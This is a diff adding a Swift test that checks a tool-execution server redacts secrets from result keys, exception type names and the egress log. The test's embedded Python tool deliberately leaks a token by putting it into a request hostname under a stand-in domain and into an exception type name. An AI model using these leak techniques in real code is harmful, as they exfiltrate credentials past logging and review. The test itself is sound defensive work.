@@ -114,4 +114,44 @@ struct SecretStorageTests {
         try FileManager.default.removeItem(at: file)
         #expect(throws: KeyFileError.self) { _ = try KeyFile.load(variable: "V", file: file, environment: [:], guarding: "x") { false } }
     }
+
+    /// The gaps an outside review found: a secret in an object key, in an exception's type name
+    /// and in the egress log (the host a tool asked for) is redacted; a secret too short to
+    /// redact safely is refused.
+    @Test func secretsAreRedactedFromKeysErrorTypesAndTheEgressLog() async throws {
+        let server = try await TestServer.make()
+        let admin = try await server.key(.admin)
+        let value = "k\(UInt32.random(in: 100_000...999_999))x"
+        try await server.run { client in
+            let a = try #require(try await client.request(.post, "/v1/servers", key: admin, json: #"{"name":"a","allowed_hosts":["api.example.com"]}"#).string("id"))
+            let short = try await client.request(.put, "/v1/servers/\(a)/secrets/SHORT", key: admin, json: #"{"value":"abc"}"#)
+            #expect(short.status == 400 && short.errorCode == "invalid_request", "\(short.body)")
+            #expect(try await client.request(.put, "/v1/servers/\(a)/secrets/API_TOKEN", key: admin, body: .object(["value": .string(value)])).status == 200)
+            let code = """
+                def main():
+                    t = secrets['API_TOKEN']
+                    try:
+                        http.get('https://' + t + '.example.com/')
+                    except Exception:
+                        pass
+                    raise type(t, (Exception,), {})('x')
+
+                """
+            let toolId = try #require(try await client.request(.post, "/v1/servers/\(a)/tools", key: admin,
+                                                               body: .object(["name": "leaky", "code": .string(code)])).string("id"))
+            _ = try await client.request(.post, "/v1/tools/\(toolId)/approve", key: admin, json: #"{"version":1}"#)
+            let run = try await client.request(.post, "/v1/tools/\(toolId)/executions", key: admin, json: "{}")
+            #expect(run.string("status") == "failed", "\(run.body)")
+            #expect(!run.body.contains(value), "\(run.body)")
+            let keyed = "def main():\n    return {secrets['API_TOKEN']: 1}\n"
+            let keyedId = try #require(try await client.request(.post, "/v1/servers/\(a)/tools", key: admin,
+                                                                body: .object(["name": "keyed", "code": .string(keyed)])).string("id"))
+            _ = try await client.request(.post, "/v1/tools/\(keyedId)/approve", key: admin, json: #"{"version":1}"#)
+            let keyedRun = try await client.request(.post, "/v1/tools/\(keyedId)/executions", key: admin, json: "{}")
+            #expect(keyedRun["result"] == .object([Redactor.marker: .int(1)]), "\(keyedRun.body)")
+            let logged = try await client.request(.get, "/v1/executions?server_id=\(a)", key: admin)
+            #expect(logged.status == 200 && !logged.body.contains(value), "\(logged.body)")
+            #expect(logged.body.contains("egress"))
+        }
+    }
 }
